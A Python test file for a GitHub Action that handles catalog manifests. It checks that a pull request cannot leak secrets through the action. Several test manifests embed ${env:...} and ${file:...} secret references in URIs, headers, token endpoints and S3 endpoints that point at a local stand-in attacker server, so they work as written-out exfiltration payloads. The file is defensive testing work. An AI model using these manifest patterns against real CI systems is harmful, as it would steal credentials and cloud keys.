"""A pull request tries to get at secrets, through the action as it is used. The attacker's server hears nothing, and
no output has a secret. Where the attack is a connection, the same manifests without the flags show that it works."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from action_runs import BASE, SECRET, Job
from cli.cli_runs import catalog, namespace, reconciler, table, write
from github_stand_in import StandIn, serving

pytestmark = pytest.mark.slow

PLAN = {"command": "plan", "version": "none", "catalogs_from": f"{BASE}/manifests"}
IN_A_FILE = "CANARY-in-a-file-8888"
SECRETS = {
    "CATALOG_TOKEN": SECRET,
    "AWS_ACCESS_KEY_ID": "CANARYkey9999",
    "AWS_SECRET_ACCESS_KEY": "CANARYsecret9999",
    "AWS_SESSION_TOKEN": "CANARYsession9999",
    "AWS_EC2_METADATA_DISABLED": "true",
}


@dataclass
class Attacker:
    url: str = ""
    heard: list[str] = field(default_factory=list)
    """All of each request."""
    lock: threading.Lock = field(default_factory=threading.Lock)

    @property
    def port(self) -> str:
        return self.url.rpartition(":")[2]


class _Ear(BaseHTTPRequestHandler):
    attacker: Attacker

    def _hear(self) -> None:
        sent = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
        with self.attacker.lock:
            self.attacker.heard.append(f"{self.requestline}\n{self.headers}\n{sent}")
        self.send_response(403)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_PUT = do_DELETE = _hear

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    state = Attacker()
    with serving(type("Ear", (_Ear,), {"attacker": state})) as url:
        state.url = url
        yield state


REST = "apiVersion: reconciler.lance/v1\nkind: Catalog\nmetadata: {name: lake}\nspec:\n  type: rest\n"
TOKEN = "${env:CATALOG_TOKEN}"
S3 = "type: dir\n  path: s3://bucket/lake\n  storage.aws_region: us-east-1\n  storage.allow_http: 'true'\n"

CATALOGS = {
    "a server": REST + f"  uri: {{url}}\n  auth_token: '{TOKEN}'\n",
    "a path": REST + f"  uri: '{{url}}/{TOKEN}'\n",
    "a header": REST + f"  uri: {{url}}\n  header.x-mine: '{TOKEN}'\n",
    "a service of the cloud": REST.replace("rest\n", "glue\n")
    + "  region: us-east-1\n  root: s3://b/x\n  endpoint: {url}\n",
    "where tokens come from": REST
    + f"  uri: http://127.0.0.1:9\n  credential: 'id:{TOKEN}'\n  oauth2_server_uri: {{url}}/token\n",
    "keys of the machine": REST.replace("type: rest\n", S3) + "  storage.endpoint: {url}\n",
}


def heard_without_flags(folder: Path, attacker: Attacker) -> str:
    reconciler(folder, "plan", "manifests", env=SECRETS)
    heard = "\n".join(attacker.heard)
    attacker.heard.clear()
    return heard


def check_nothing_left(job: Job, github: StandIn, attacker: Attacker) -> None:
    assert attacker.heard == []
    written = [p.read_text(errors="replace") for p in job.temp.rglob("*") if p.is_file()]
    for text in (job.log, job.summary, str(github.comments), *written, *map(str, github.zips.values())):
        for secret in (SECRET, IN_A_FILE, *(v for k, v in SECRETS.items() if k.startswith("AWS_S"))):
            assert secret not in text


@pytest.mark.parametrize("name", CATALOGS)
def test_a_changed_catalog(job: Job, github: StandIn, attacker: Attacker, workspace: Path, name: str) -> None:
    job.secrets = SECRETS
    write(workspace / "manifests", CATALOGS[name].replace("{url}", attacker.url), name="lake.yaml")
    control = heard_without_flags(workspace, attacker)
    assert "CANARY" in control, "the attack is a real one"
    assert job.use(**PLAN) == 0, job.log
    assert "not used: Catalog documents are taken from" in github.comments[0]["body"]
    assert "a.t" in github.comments[0]["body"], "and the plan is there, for the catalog of the base branch"
    check_nothing_left(job, github, attacker)


SOURCE = (
    "data: {source: {format: parquet, path: s3://x/y, storage.endpoint: '{url}', storage.aws_region: us-east-1, "
    "storage.allow_http: 'true'}, mode: once}"
)


def test_a_source_of_rows(job: Job, github: StandIn, attacker: Attacker, workspace: Path) -> None:
    job.secrets = SECRETS
    text = table("a", "t", spec=SOURCE.replace("{url}", attacker.url))
    write(workspace / "manifests", namespace("a"), text, name="tables.yaml")
    assert "CANARYkey9999" in heard_without_flags(workspace, attacker)
    assert job.use(**PLAN) == 0, job.log
    assert "the source is not looked at" in github.comments[0]["body"]
    check_nothing_left(job, github, attacker)


def test_values_that_a_plan_shows(job: Job, github: StandIn, attacker: Attacker, workspace: Path) -> None:
    """And everything else that is an error, in one pull request: each at its line, and no value."""
    job.secrets = SECRETS
    secret = workspace.parent / "secret.yaml"
    secret.write_text(f"apiVersion: {IN_A_FILE}\n")
    (workspace / "manifests" / "link.yaml").symlink_to(secret)
    write(
        workspace / "manifests",
        namespace("a", spec=f"{{properties: {{x: '{TOKEN}', y: '${{env:AWS_SESSION_TOKEN:-z}}'}}}}"),
        table("a", "t", spec=f"description: '${{file:{secret}}}'"),
        table("a", "u", spec=f"location: 's3://x/{TOKEN}'"),
        catalog().replace("name: lake", "name: mine").replace("apiVersion", "---\napiVersion", 1),
        name="tables.yaml",
    )
    control = reconciler(workspace, "plan", "manifests", env=SECRETS)
    assert IN_A_FILE in control.out + control.err
    assert job.use(**PLAN) == 1
    body = github.comments[0]["body"]
    assert [body.count(f"`{code}`") for code in ("M310", "M311", "M313", "M314")] == [3, 1, 1, 1], body
    check_nothing_left(job, github, attacker)
